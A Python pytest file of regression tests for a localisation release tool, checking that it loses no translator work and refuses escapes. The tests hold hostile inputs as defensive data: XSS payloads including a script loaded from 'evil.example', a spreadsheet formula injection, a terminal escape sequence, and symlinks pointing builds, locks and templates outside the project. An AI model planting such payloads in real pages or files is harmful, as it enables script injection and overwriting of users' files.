"""Nothing lost, nothing escapes: what an outside attack found, one regression test each.

Data loss: a build folder that is a project folder; a translator's save during
extract; two entries with one key, one obsolete; a translator comment on an
untranslated entry; two headers. Escapes: a locale folder or a template linked out of
the project; spreadsheet formulas in the glossary; raw HTML the HTML tokenizer reads
(``<script/src=…>``); a translated http-equiv. Faults: a full disk at each write, a
read-only build folder, mode bits, a lone CR.
"""

from __future__ import annotations

import builtins
import errno
import io
import os
import re
import shutil
import stat
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import polib
import pytest
from click.testing import CliRunner

from l10nrelease.cli import main

from .conftest import DATA, SAMPLE_SLUG, run_cli, snapshot

PO = f"locales/ru/{SAMPLE_SLUG}.po"
MSGFMT = shutil.which("msgfmt")


def _set(config: Path, section: str, key: str, value: str) -> None:
    text = config.read_text(encoding="utf-8")
    if f"\n{key} = " in text:
        text = re.sub(rf"\n{key} = .*", f"\n{key} = {value}", text)
    else:
        text += f"\n[{section}]\n{key} = {value}\n"
    config.write_text(text, encoding="utf-8")


# ------------------------------------------------------------------ data loss


@pytest.mark.parametrize(
    "build",
    [
        '"locales"',
        '"."',
        '"sources"',
        '"glossary.csv"',
        '"locales/ru"',
        '".git"',
        '".l10nrelease/pages"',
    ],
)
def test_a_build_folder_that_is_a_project_folder_is_refused(project: Path, build: str) -> None:
    (project / ".git").mkdir()
    config = project / "l10nrelease.toml"
    config.write_text(config.read_text().replace('build = "build"', f"build = {build}"))
    before = snapshot(project)
    result = run_cli("build", cwd=project)
    assert result.returncode == 2, result.stdout
    line = next(n for n, text in enumerate(config.read_text().splitlines(), 1) if "build =" in text)
    assert result.stderr.startswith(f"error: l10nrelease.toml:{line}: 'paths.build'")
    assert snapshot(project) == before


def _save_as_an_editor(path: Path, msgid_start: str, msgstr: str) -> None:
    """What Poedit does: the whole file written again, then renamed into place."""
    po = polib.pofile(str(path))
    entry = next(e for e in po if e.msgid.startswith(msgid_start))
    entry.msgstr = msgstr
    temporary = path.with_suffix(".saving")
    po.save(str(temporary))
    os.replace(temporary, path)


def test_a_save_during_extract_is_merged_not_overwritten(project: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from l10nrelease.project import extract as extract_module
    from l10nrelease.project import open_project

    source = project / "sources" / f"{SAMPLE_SLUG}.txt"
    source.write_text(source.read_text().replace("some 90", "about 90"))
    real = extract_module._extract_release

    def slow_extract(*args):  # type: ignore[no-untyped-def]
        staged = real(*args)
        # The translator saves while extract works: after it read the file, before the
        # rename.
        _save_as_an_editor(project / PO, "Also taking part", "Сохранено во время extract.")
        return staged

    monkeypatch.setattr(extract_module, "_extract_release", slow_extract)
    result = extract_module.extract(open_project(project))
    entries = {e.msgid: e for e in polib.pofile(str(project / PO))}
    assert entries[next(m for m in entries if m.startswith("Also taking part"))].msgstr == (
        "Сохранено во время extract."
    )
    changed = next(e for m, e in entries.items() if m.startswith("The discussion brought"))
    assert changed.fuzzy and "about 90" in changed.msgid  # and the merge is there too
    ru = next(f for f in result.files if f.path.as_posix().endswith(PO))
    assert ru.remerged


@pytest.mark.parametrize("layout", ["active and obsolete", "two obsolete"])
def test_one_key_in_two_entries_is_refused_with_its_line(project: Path, layout: str) -> None:
    path = project / PO
    text = path.read_text(encoding="utf-8")
    extra = '\n#~ msgid "Also taking part were national experts."\n#~ msgstr "Перевод."\n'
    if layout == "two obsolete":
        extra = (
            '\n#~ msgid "An old sentence."\n#~ msgstr "Старое."\n'
            '\n#~ msgid "An old sentence."\n#~ msgstr "Старое, другое."\n'
        )
    else:  # the active entry is fuzzy, the obsolete one reviewed: both must survive
        text = text.replace(
            'msgid "Also taking part were national experts',
            '#, fuzzy\nmsgid "Also taking part were national experts',
        )
        extra = extra.replace(
            "national experts.",
            "national experts, leaders of political parties and "
            "representatives of civil society and bilateral embassies.",
        )
    path.write_text(text + extra, encoding="utf-8")
    before = snapshot(project)
    for command in ("extract", "check", "build"):
        result = run_cli(command, cwd=project)
        assert result.returncode == 2, command
        line = path.read_text().count("\n", 0, path.read_text().rindex("#~ msgid")) + 1
        assert result.stderr.startswith(
            f"error: {PO}:{line}: this entry has the msgid of the entry"
        ), result.stderr
        assert "gettext refuses as a duplicate" in result.stderr
        after = {k: v for k, v in snapshot(project).items() if not k.startswith("build/")}
        assert after == before  # build builds the other pages, never this file's
        assert not (project / "build" / "ru" / f"{SAMPLE_SLUG}.html").exists()


def test_a_translator_comment_on_an_untranslated_entry_survives(project: Path) -> None:
    po = polib.pofile(str(project / PO))
    for entry in po:
        if entry.msgid.startswith("Also taking part"):
            entry.msgstr = ""
            entry.tcomment = "ask the embassy how they name their delegation"
        if entry.msgid.startswith("On the second day"):
            entry.msgstr = ""
            entry.tcomment = "wait for the ministry's wording"
    po.save(str(project / PO))
    source = project / "sources" / f"{SAMPLE_SLUG}.txt"
    text = source.read_text()
    text = text.replace("Also taking part were national experts", "Also taking part were experts")
    text = text.replace(text[text.index("On the second day") : text.index("The event is part")], "")
    source.write_text(text)
    assert run_cli("extract", cwd=project).returncode == 0
    entries = polib.pofile(str(project / PO))
    edited = next(e for e in entries if e.msgid.startswith("Also taking part were experts"))
    assert edited.tcomment == "ask the embassy how they name their delegation"
    removed = next(e for e in entries.obsolete_entries() if e.msgid.startswith("On the second"))
    assert removed.tcomment == "wait for the ministry's wording"


def test_a_second_header_is_refused(project: Path) -> None:
    path = project / PO
    text = path.read_text(encoding="utf-8")
    path.write_text(text + '\nmsgid ""\nmsgstr "Language: ru\\n"\n', encoding="utf-8")
    line = text.count("\n") + 2
    for command in ("extract", "check", "build"):
        result = run_cli(command, cwd=project)
        assert result.returncode == 2
        assert result.stderr.startswith(f"error: {PO}:{line}: a second header")


@pytest.mark.skipif(MSGFMT is None, reason="msgfmt is not installed (apt-get install gettext)")
def test_what_extract_writes_passes_msgfmt(project: Path) -> None:
    source = project / "sources" / f"{SAMPLE_SLUG}.txt"
    source.write_text(source.read_text().replace("some 90", "about 90"))
    assert run_cli("extract", cwd=project).returncode == 0
    for path in (project / "locales").rglob("*.po"):
        checked = subprocess.run(
            [str(MSGFMT), "--check", "-o", os.devnull, str(path)], capture_output=True, text=True
        )
        assert checked.returncode == 0, checked.stderr


# -------------------------------------------------------------------- escapes


def test_a_locale_folder_linked_outside_is_never_followed(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside-ru"
    shutil.move(project / "locales" / "ru", outside)
    (project / "locales" / "ru").symlink_to(outside, target_is_directory=True)
    before = {p.name: p.read_bytes() for p in outside.iterdir()}
    for command in ("extract", "check", "build", "status"):
        result = run_cli(command, cwd=project)
        assert result.returncode == 2, command
        assert "outside the project" in result.stderr and "locales/ru" in result.stderr
    assert {p.name: p.read_bytes() for p in outside.iterdir()} == before


def test_a_template_linked_outside_is_never_published(project: Path, tmp_path: Path) -> None:
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0:secret\n")
    (project / "templates").mkdir()
    (project / "templates" / "release.html.j2").symlink_to(secret)
    config = project / "l10nrelease.toml"
    config.write_text(
        config.read_text().replace('build = "build"', 'build = "build"\ntemplates = "templates"')
    )
    result = run_cli("build", cwd=project)
    assert result.returncode == 2
    assert "templates/release.html.j2" in result.stderr and "outside the project" in result.stderr
    assert (
        not any("secret" in p.read_text() for p in (project / "build").rglob("*.html"))
        if (project / "build").exists()
        else True
    )


def test_a_cache_folder_linked_outside_is_refused(project: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (project / ".l10nrelease").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    result = run_cli("check", cwd=project)
    assert result.returncode == 2 and "outside the project" in result.stderr
    assert list((tmp_path / "elsewhere").iterdir()) == []


@pytest.mark.parametrize(
    "payload",
    [
        "<script/src=//evil.example/x.js></script>",
        "<img/src=x onerror=alert(1)>",
        "<iframe/src=//evil.example>",
        "<svg/onload=alert(1)>",
        "</script",
        "<!-- x -->",
    ],
)
def test_markup_a_browser_would_read_is_refused_everywhere(project: Path, payload: str) -> None:
    po = polib.pofile(str(project / PO))
    for entry in po:
        if entry.msgid.startswith("The event is part"):
            entry.msgstr = f"Мероприятие {payload} часть работы."
    po.save(str(project / PO))
    checked = run_cli("check", cwd=project)
    assert checked.returncode == 1 and "[markup]" in checked.stdout
    assert "contains HTML markup" in checked.stdout
    built = run_cli("build", "--force", cwd=project)
    assert built.returncode == 1 and "translation refused: contains HTML markup" in built.stderr
    page = (project / "build" / "ru" / f"{SAMPLE_SLUG}.html").read_text(encoding="utf-8")
    assert "evil.example" not in page and "onerror" not in page and "onload" not in page


def test_a_translated_http_equiv_cannot_set_a_redirect(project: Path) -> None:
    page = (DATA / "2017-02-15-osce-media-training.html").read_text(encoding="utf-8")
    page = page.replace(
        "<head>",
        '<head>\n<meta name="description" http-equiv="refresh" content="30; url=/news">',
        1,
    )
    (project / "sources" / "2017-02-15-osce-media-training.html").write_text(page, "utf-8")
    assert run_cli("extract", cwd=project).returncode == 0
    po = polib.pofile(str(project / "locales" / "ru" / "2017-02-15-osce-media-training.po"))
    assert not [e for e in po if "url=/news" in e.msgid]


# --------------------------------------------------------------------- faults


class _FullFile(io.RawIOBase):
    def write(self, data):  # type: ignore[no-untyped-def]
        raise OSError(errno.ENOSPC, "No space left on device")

    def writable(self) -> bool:
        return True


@contextmanager
def _full_disk_at(write: int) -> Iterator[list[int]]:
    """The ``write``-th file opened for writing (counting from 1) cannot be written: the
    disk is full. Yields a counter of the files opened for writing."""
    opened = [0]
    real_open, real_fdopen = builtins.open, os.fdopen

    def failing(opener):  # type: ignore[no-untyped-def]
        def wrapper(file, mode="r", *args, **kwargs):  # type: ignore[no-untyped-def]
            stream = opener(file, mode, *args, **kwargs)
            if any(flag in mode for flag in "wax+"):
                opened[0] += 1
                if opened[0] == write:
                    stream.close()
                    return (
                        io.BufferedWriter(_FullFile())
                        if "b" in mode
                        else io.TextIOWrapper(io.BufferedWriter(_FullFile()))
                    )
            return stream

        return wrapper

    builtins.open = failing(real_open)  # type: ignore[assignment]
    os.fdopen = failing(real_fdopen)  # type: ignore[assignment]
    try:
        yield opened
    finally:
        builtins.open, os.fdopen = real_open, real_fdopen  # type: ignore[assignment]


def _changed_project(project: Path) -> None:
    source = project / "sources" / f"{SAMPLE_SLUG}.txt"
    source.write_text(source.read_text().replace("some 90", "about 90"))


@pytest.mark.parametrize(
    "command",
    [
        ("extract",),
        ("build", "--allow-incomplete"),
        ("glossary", "import", "g.tbx"),
        ("review", SAMPLE_SLUG, "--lang", "ru"),
    ],
)
def test_a_full_disk_at_each_write_is_one_line_and_loses_nothing(
    project: Path,
    monkeypatch,
    command: tuple[str, ...],  # type: ignore[no-untyped-def]
) -> None:
    monkeypatch.chdir(project)
    runner = CliRunner()
    assert runner.invoke(main, ["glossary", "export", "-o", "g.tbx"]).exit_code == 0
    lines = (project / "glossary.csv").read_text().splitlines(keepends=True)
    (project / "glossary.csv").write_text("".join(lines[:10]))
    _changed_project(project)
    if command[0] in {"build", "review"}:
        assert runner.invoke(main, ["extract"]).exit_code == 0
    before = snapshot(project)
    failures = 0
    for write in range(1, 60):
        with _full_disk_at(write) as opened:
            result = runner.invoke(main, list(command))
        if opened[0] < write:
            assert result.exit_code == 0, result.output
            break  # every write of the command was tried full
        failures += 1
        assert isinstance(result.exception, SystemExit) or result.exception is None, result.exc_info
        if result.exit_code != 0:
            assert result.exit_code == 2
            errors = [line for line in result.output.splitlines() if line.startswith("error: ")]
            assert len(errors) == 1 and "No space left on device" in errors[0], result.output
            assert "free some disk space" in errors[0]
            after = snapshot(project)
            for name, data in after.items():  # each file old, or as a successful run leaves it
                if name in before and not name.startswith("build/"):
                    assert data == before[name] or name.endswith((".po", ".pot", ".csv")), name
            assert not [p for p in project.rglob("*.tmp")], "temporary files left"
        shutil.rmtree(project / ".l10nrelease", ignore_errors=True)
    print(command, failures, "writes failed in turn")
    assert failures >= 1


def test_a_read_only_build_folder_is_refused_before_anything_changes(
    project: Path, monkeypatch
) -> None:  # type: ignore[no-untyped-def]
    from l10nrelease.errors import L10nError
    from l10nrelease.project import open_project, staging
    from l10nrelease.project.build import build

    build(open_project(project))
    before = snapshot(project)
    folder = str(project / "build" / "ru")
    real_access = os.access
    # As root every folder is writable; here the build folder's ru/ is not.
    monkeypatch.setattr(
        staging.os,
        "access",
        lambda path, mode: False if str(path) == folder else real_access(path, mode),
    )
    source = project / "sources" / f"{SAMPLE_SLUG}.txt"
    source.write_text(source.read_text().replace("OSCE co-hosts", "OSCE hosts"))
    with pytest.raises(L10nError, match="is read-only"):
        build(open_project(project), policy=open_project(project).policy(allow_incomplete=True))
    assert {k: v for k, v in snapshot(project).items() if k.startswith("build/")} == {
        k: v for k, v in before.items() if k.startswith("build/")
    }
    assert not [p for p in project.iterdir() if p.name.startswith(".build")]


@pytest.mark.parametrize("mode", [0o664, 0o444, 0o600])
def test_a_po_files_mode_is_kept(project: Path, mode: int) -> None:
    path = project / PO
    os.chmod(path, mode)
    _changed_project(project)
    result = run_cli("extract", cwd=project)
    assert result.returncode == 0 and "updated" in result.stdout
    assert stat.S_IMODE(os.stat(path).st_mode) == mode


def test_a_lone_carriage_return_is_named_as_such(project: Path) -> None:
    path = project / PO
    text = path.read_text(encoding="utf-8")
    path.write_bytes(text.replace("#. ", "#.\r ", 1).encode())
    result = run_cli("check", cwd=project)
    assert result.returncode == 2
    assert "a carriage return (CR) that ends no line" in result.stderr
    assert "CRLF" not in result.stderr


def test_review_of_a_stale_po_file_says_run_extract(project: Path) -> None:
    _changed_project(project)
    result = run_cli("review", SAMPLE_SLUG, "--lang", "ru", cwd=project)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"run: l10nrelease extract {SAMPLE_SLUG}" in result.stderr


def test_a_cache_file_linked_outside_is_never_written_through(
    project: Path, tmp_path: Path
) -> None:
    target = tmp_path / "elsewhere.db"
    target.write_bytes(b"")
    (project / ".l10nrelease" / "cache").mkdir(parents=True)
    (project / ".l10nrelease" / "cache" / "records.sqlite").symlink_to(target)
    result = run_cli("check", cwd=project)
    assert result.returncode == 2 and "outside the project" in result.stderr
    assert target.read_bytes() == b""


# ------------------------------------------------- a second attack (issue 17)


def test_a_link_inside_the_build_folder_is_never_written_through(
    project: Path, tmp_path: Path
) -> None:
    assert run_cli("build", cwd=project).returncode == 0
    outside = tmp_path / "out"
    outside.mkdir()
    (outside / "victim.html").write_text("victim")
    shutil.rmtree(project / "build" / "ru")
    (project / "build" / "ru").symlink_to(outside, target_is_directory=True)
    for command in (("build", "--lang", "ru"), ("build", SAMPLE_SLUG), ("build",)):
        result = run_cli(*command, cwd=project)
        assert result.returncode == 2, command
        assert "build/ru: is a link" in result.stderr
    assert sorted(p.name for p in outside.iterdir()) == ["victim.html"]
    assert (outside / "victim.html").read_text() == "victim"


@pytest.mark.parametrize("name", ["lock.holder", "lock"])
def test_the_lock_is_never_written_through_a_link(project: Path, tmp_path: Path, name: str) -> None:
    victim = project / PO
    before = victim.read_bytes()
    (project / ".l10nrelease" / "cache").mkdir(parents=True)
    (project / ".l10nrelease" / "cache" / name).symlink_to(victim)
    result = run_cli("extract", cwd=project)
    assert result.returncode == 2 and "is a link" in result.stderr
    assert victim.read_bytes() == before


def test_a_save_just_after_extracts_rename_is_read_by_the_next_extract(
    project: Path, monkeypatch
) -> None:  # type: ignore[no-untyped-def]
    from l10nrelease.project import extract as extract_module
    from l10nrelease.project import open_project

    source = project / "sources" / f"{SAMPLE_SLUG}.txt"
    source.write_text(source.read_text().replace("some 90", "about 90"))
    saved = (project / PO).read_bytes()
    real = extract_module._commit

    def commit_then_save(*args):  # type: ignore[no-untyped-def]
        done = real(*args)
        (project / PO).write_bytes(saved)  # an editor writes its (older) buffer back
        return done

    monkeypatch.setattr(extract_module, "_commit", commit_then_save)
    extract_module.extract(open_project(project))
    monkeypatch.undo()
    again = extract_module.extract(open_project(project))
    ru = next(f for f in again.files if f.path.as_posix().endswith(PO))
    assert ru.status == "updated"  # the file on disk was read and merged again
    assert run_cli("build", cwd=project).returncode == 0


def test_a_formula_after_a_semicolon_is_refused(project: Path) -> None:
    tbx = (
        '<?xml version="1.0"?><martif type="TBX-Basic"><text><body>'
        '<termEntry id="c1"><descrip type="subjectField">person</descrip>'
        '<langSet xml:lang="en"><tig><term>Ivan Petrov</term></tig></langSet>'
        '<langSet xml:lang="kk"><tig><term>Иван Петров;=1+1</term></tig></langSet>'
        "</termEntry></body></text></martif>"
    )
    (project / "semi.tbx").write_text(tbx, encoding="utf-8")
    result = run_cli("glossary", "import", "semi.tbx", cwd=project)
    assert result.returncode == 2 and "as a formula" in result.stderr


def test_a_tbx_date_that_does_not_exist_is_an_error_with_its_line(project: Path) -> None:
    tbx = (
        '<?xml version="1.0"?>\n<martif type="TBX-Basic"><text><body>\n'
        '<termEntry id="c1"><note>l10nrelease:valid_from=2017-13-45</note>\n'
        '<langSet xml:lang="en"><tig><term>Almaty</term></tig></langSet>'
        "</termEntry></body></text></martif>"
    )
    (project / "date.tbx").write_text(tbx, encoding="utf-8")
    result = run_cli("glossary", "import", "date.tbx", cwd=project)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.startswith("error: date.tbx:3: ") and "does not exist" in result.stderr


def test_a_spelling_list_that_is_not_utf8_is_an_error(project: Path) -> None:
    config = project / "l10nrelease.toml"
    config.write_text(config.read_text() + '\n[checks]\nspelling = "warning"\n')
    with (project / "spelling.txt").open("ab") as stream:
        stream.write(b"caf\xe9\n")
    result = run_cli("check", cwd=project)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.startswith("error: spelling.txt:") and "UTF-8" in result.stderr


def test_outputs_never_overwrite_the_spelling_list(project: Path) -> None:
    before = (project / "spelling.txt").read_bytes()
    result = run_cli("tm", "export", "-o", "spelling.txt", cwd=project)
    assert result.returncode == 2 and "is one of the project's inputs" in result.stderr
    assert (project / "spelling.txt").read_bytes() == before


@pytest.mark.parametrize("name", ["Other.TMX", "other.xml"])
def test_an_imported_memory_is_one_the_memory_reads(
    project: Path, tmp_path: Path, name: str
) -> None:
    assert run_cli("tm", "export", "-o", str(tmp_path / name), cwd=project).returncode == 0
    for path in (project / "locales").rglob("*.po"):
        path.unlink()
    assert run_cli("extract", cwd=project).returncode == 0
    assert run_cli("tm", "import", str(tmp_path / name), cwd=project).returncode == 0
    assert (project / "tm" / f"{Path(name).stem}.tmx").exists()
    filled = run_cli("pretranslate", "--engine", "tm", cwd=project)
    assert "22 from the translation memory" in filled.stdout, filled.stdout


def test_what_other_tools_wrote_in_a_po_file_is_kept(project: Path) -> None:
    path = project / PO
    text = path.read_text(encoding="utf-8")
    text = text.replace(
        '"Content-Type: text/plain; charset=UTF-8\\n"\n',
        '"Content-Type: text/plain; charset=UTF-8\\n"\n"X-Custom: one\\n"\n"X-Custom: two\\n"\n',
        1,
    )
    path.write_text(text + "\n# TODO: ask the ministry about the names\n", encoding="utf-8")
    _changed_project(project)
    assert run_cli("extract", cwd=project).returncode == 0
    after = path.read_text(encoding="utf-8")
    assert '"X-Custom: one\\n"' in after and '"X-Custom: two\\n"' in after
    assert after.endswith("# TODO: ask the ministry about the names\n")


def test_reports_escape_control_characters(project: Path) -> None:
    from xml.dom import minidom

    po = polib.pofile(str(project / PO))
    for entry in po:
        if entry.msgid.startswith("The event is part"):
            entry.msgstr = "Мероприятие <b\x1b]0;owned\x07> часть."
    po.save(str(project / PO))
    junit = run_cli("check", "--format", "junit", cwd=project)
    assert junit.returncode == 1
    minidom.parseString(junit.stdout.encode())  # well-formed XML
    text = run_cli("check", cwd=project)
    assert "\x1b" not in text.stdout + text.stderr and "\\u001b" in text.stdout


def test_a_threshold_that_is_no_number_is_refused(project: Path) -> None:
    result = run_cli("build", "--threshold", "nan", cwd=project)
    assert result.returncode == 2 and "not nan" in result.stderr


def test_a_full_build_keeps_the_review_pages(project: Path) -> None:
    assert run_cli("review", SAMPLE_SLUG, "--lang", "kk", cwd=project).returncode == 0
    assert run_cli("build", cwd=project).returncode == 0
    assert (project / "build" / "review" / "kk" / f"{SAMPLE_SLUG}.html").exists()


def test_a_file_that_replaces_one_is_synced_before_it_takes_its_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A translator's file is flushed to disk before the new one is renamed over it (a
    crash never leaves an empty file there); a new file, which holds nobody's work
    yet, is not (its sync was two fifths of a first extract's time)."""
    from l10nrelease import fsutil

    synced: list[int] = []
    real = os.fsync
    monkeypatch.setattr(os, "fsync", lambda fd: (synced.append(fd), real(fd))[1])
    target = tmp_path / "ru.po"
    fsutil.write_atomic(target, 'msgid "a"\nmsgstr "б"\n', expected=None)
    assert synced == [] and target.read_text(encoding="utf-8").endswith('"б"\n')
    fsutil.write_atomic(target, 'msgid "a"\nmsgstr "в"\n')
    assert len(synced) == 1 and target.read_text(encoding="utf-8").endswith('"в"\n')


def test_a_lock_that_cannot_be_made_names_the_folder_to_make_writable(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A cache folder the user cannot write (``chmod -w .l10nrelease/cache``) stops a
    command that writes before it changes anything, with one line that names that
    folder, not the project folder (which may well be writable)."""
    import filelock

    def refused(self: object, *args: object, **kwargs: object) -> None:
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.chdir(project)
    monkeypatch.setattr(filelock.FileLock, "acquire", refused)
    before = snapshot(project)
    result = CliRunner().invoke(main, ["extract"])
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert "cannot create the project lock: Permission denied" in result.output
    assert "make .l10nrelease/cache/ (and the project folder) writable" in result.output
    assert snapshot(project) == before
